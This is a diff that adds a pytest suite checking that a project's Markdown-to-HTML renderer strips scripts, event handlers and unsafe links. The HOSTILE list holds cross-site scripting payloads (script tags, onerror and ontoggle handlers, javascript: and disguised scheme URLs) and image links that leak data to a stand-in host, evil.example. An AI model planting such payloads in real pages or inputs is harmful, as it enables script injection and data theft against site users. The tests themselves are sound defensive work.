@@ -1,0 +1,52 @@
+"""Markdown becomes HTML in which nothing runs and nothing is fetched."""
+
+import re
+
+import pytest
+
+from project.text import render_markdown
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox)",
+    "![x](https://evil.example/leak?data=secret)",
+    "![x][ref]\n\n[ref]: https://evil.example/leak",
+    "<javascript:alert(1)>",
+    '[x](https://a.example "onmouseover=alert(1)")',
+    "<a href='x' onclick=alert(1)>x</a>",
+    "<style>*{background:url(https://evil.example)}</style>",
+    "`<script>`",
+    "```html\n<script>alert(1)</script>\n```",
+    "<details open ontoggle=alert(1)>",
+    "[a](<javascript:alert(1)>)",
+    "\u202ecba",
+]
+
+
+@pytest.mark.parametrize("source", HOSTILE)
+def test_nothing_runs_and_nothing_is_fetched(source: str) -> None:
+    html = render_markdown(source)
+    tags = re.findall(r"<[^>]*>", html)
+    assert not re.search(r"(?i)<(script|style|img|svg|iframe|details|object)", " ".join(tags))
+    for tag in tags:
+        assert not re.search(r"(?i)\son\w+\s*=", re.sub(r'"[^"]*"', '""', tag))
+        target = re.search(r'href="([^"]*)"', tag)
+        assert target is None or re.match(r"https?://|mailto:|/[^/]|/$|#", target[1]), tag
+
+
+def test_markdown_is_rendered() -> None:
+    html = render_markdown("# Title\n\n**bold** ~~gone~~ [link](https://a.example)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
+    assert "<h1>Title</h1>" in html
+    assert "<strong>bold</strong>" in html
+    assert "<table>" in html
+    assert 'rel="noopener noreferrer nofollow"' in html
+
+
+def test_links_to_our_own_pages_stay() -> None:
+    assert 'href="/boards/x/cards/3/"' in render_markdown("[#3](/boards/x/cards/3/)")
